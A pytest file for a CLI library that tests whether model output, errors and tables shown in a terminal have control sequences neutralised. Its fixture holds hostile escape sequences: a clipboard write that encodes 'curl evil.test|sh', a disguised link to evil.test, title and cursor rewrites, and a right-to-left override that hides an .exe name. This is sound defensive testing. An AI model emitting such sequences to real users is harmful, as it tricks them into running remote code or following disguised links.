"""A terminal shows what a stranger wrote, and obeys none of it."""

import ast
from pathlib import Path

import pytest

from prodigon_lib import cli
from prodigon_lib.cli.application import fail
from prodigon_lib.client.values import Generation
from prodigon_lib.core.errors import UpstreamError
from prodigon_lib.core.schemas.generate import Usage
from prodigon_lib.core.terminal import plain, plain_json
from prodigon_lib.workshop import commands
from prodigon_lib.workshop.card import Shown
from prodigon_lib.workshop.table import Table

COMMANDS = {
    "a title": "\x1b]0;owned\x07",
    "the clipboard": "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x1b\\",
    "a cursor that goes up": "\x1b[2A\x1b[2K",
    "a link that hides where it goes": "\x1b]8;;https://evil.test\x1b\\bank\x1b]8;;\x1b\\",
    "one character for two": "\x9b2J\x9d0;owned\x9c",
    "the line anew": "refused\rall is well",
    "backspaces": "no\b\byes",
    "a bell and a form feed": "\a\f",
    "delete": "a\x7f",
    "another direction": "\u202egnp.exe\u202c \u2066x\u2069",
    "ends of a line that are none": "a\u2028b\u2029c\x85d\x0be",
}
HARMLESS = "one\ttwo\r\nthree\n👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 می‌خواهم שלום\xa0é"


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_is_left(name: str) -> None:
    said = plain(COMMANDS[name])
    assert said.isprintable()
    assert len(said) > len(COMMANDS[name])


def test_what_is_no_command_stays() -> None:
    assert plain(HARMLESS) == HARMLESS


@pytest.mark.parametrize("name", COMMANDS)
def test_whatever_shows_a_text_shows_it_so(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    class Card(Shown):
        def text(self) -> str:
            return COMMANDS[name]

    usage = Usage(prompt_tokens=1, completion_tokens=1, total_tokens=2)
    answer = Generation(text=COMMANDS[name], model="m", usage=usage, latency_ms=1.0, request_id="r")
    table = Table(["said"], [[COMMANDS[name]]])
    for text in (str(UpstreamError(COMMANDS[name])), str(answer), repr(Card()), repr(table)):
        assert text.replace("\n", "").isprintable()
    assert answer.text == COMMANDS[name]
    with pytest.raises(SystemExit):
        fail(f"the model said: {COMMANDS[name]}")
    assert capsys.readouterr().err == f"prodigon: the model said: {plain(COMMANDS[name])}\n"


def test_no_command_of_ours_speaks_another_way() -> None:
    """`say` takes the commands out of a text; `print` and `typer.echo` don't."""
    paths = [*Path(str(cli.__file__)).parent.rglob("*.py"), Path(str(commands.__file__))]
    calls = [
        f"{path.name}:{node.lineno}"
        for path in paths
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in ("print", "typer.echo", "typer.secho")
    ]
    assert len(paths) > 5
    assert calls == []


def test_a_line_of_json_means_the_same() -> None:
    line = '{"said": "caf\xe9 \u4e2d \\"x\\""}\n'
    assert plain_json(line) is line
    assert plain_json('{"a": "\x7f\x9b\u2028\U000e0041"}\n') == (
        '{"a": "\\u007f\\u009b\\u2028\\udb40\\udc41"}\n'
    )
